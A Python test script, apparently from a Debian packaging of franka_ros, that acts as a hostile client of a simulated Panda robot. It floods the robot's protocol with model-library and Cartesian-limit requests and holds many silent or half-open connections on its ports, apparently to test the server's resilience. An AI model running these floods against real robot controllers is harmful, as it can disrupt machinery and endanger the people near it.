# Copyright (c) 2026 the franka_ros for Debian authors
# SPDX-License-Identifier: Apache-2.0
"""A hostile client of a simulated Panda, until it is killed: attack.py KIND ADDRESS.

KIND: models (requests model libraries without reading them), limits (requests virtual walls, and reads the
answers), silent (keeps many connections open, of which half have sent one byte). reconnect.cpp is another
one, which is too slow in Python.
"""

import errno
import select
import socket
import struct
import sys
import time

ROBOT, HAND, CONTROL = 1337, 1338, 1340
HEADER = struct.Struct("<III")
CONNECT, GET_CARTESIAN_LIMIT, LOAD_MODEL_LIBRARY = 0, 3, 13  # of version 5
CONNECTIONS = 200  # of the silent
PAUSE = 0.01  # [s]


def request(number: int, payload: bytes) -> bytes:
    return HEADER.pack(number, 0, HEADER.size + len(payload)) + payload


def owner(address: str) -> socket.socket:
    """A connection that the robot serves as its client."""
    connection = socket.create_connection((address, ROBOT))
    connection.sendall(request(CONNECT, struct.pack("<HH", 5, 1)))
    connection.recv(64)
    return connection


def models(address: str) -> None:
    connection = owner(address)
    flood = 500 * request(LOAD_MODEL_LIBRARY, bytes(2))
    print("attacks", flush=True)
    while True:
        connection.sendall(flood)  # waits when the robot takes no more


def limits(address: str) -> None:
    connection = owner(address)
    connection.setblocking(False)
    flood = 500 * request(GET_CARTESIAN_LIMIT, struct.pack("<i", 1))
    print("attacks", flush=True)
    sent = 0
    while True:
        readable, writable, _ = select.select([connection], [connection], [])
        if readable:
            connection.recv(1 << 16)
        if writable:
            sent = (sent + connection.send(flood[sent:])) % len(flood)


def begun(address: str, port: int) -> socket.socket:
    """A connection that is being made."""
    connection = socket.socket()
    connection.setblocking(False)
    error = connection.connect_ex((address, port))
    if error not in (0, errno.EINPROGRESS):
        raise OSError(error, "The connection cannot be begun.")
    return connection


def silent(address: str) -> None:
    ports = (ROBOT, HAND, CONTROL)
    connections: dict[int, tuple[socket.socket, int]] = {}

    def open_one(index: int) -> None:
        connections[index] = begun(address, ports[index % len(ports)]), index

    for index in range(CONNECTIONS):
        open_one(index)
    print("attacks", flush=True)
    while True:
        for index, (connection, _) in list(connections.items()):
            try:
                if index % 2 == 0:
                    connection.send(b"\0")
                elif connection.recv(64) == b"":
                    raise ConnectionError
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:  # the robot has closed it
                connection.close()
                open_one(index)
        time.sleep(PAUSE)  # the loop's period


KINDS = {attack.__name__: attack for attack in (models, limits, silent)}

if __name__ == "__main__":
    KINDS[sys.argv[1]](sys.argv[2])
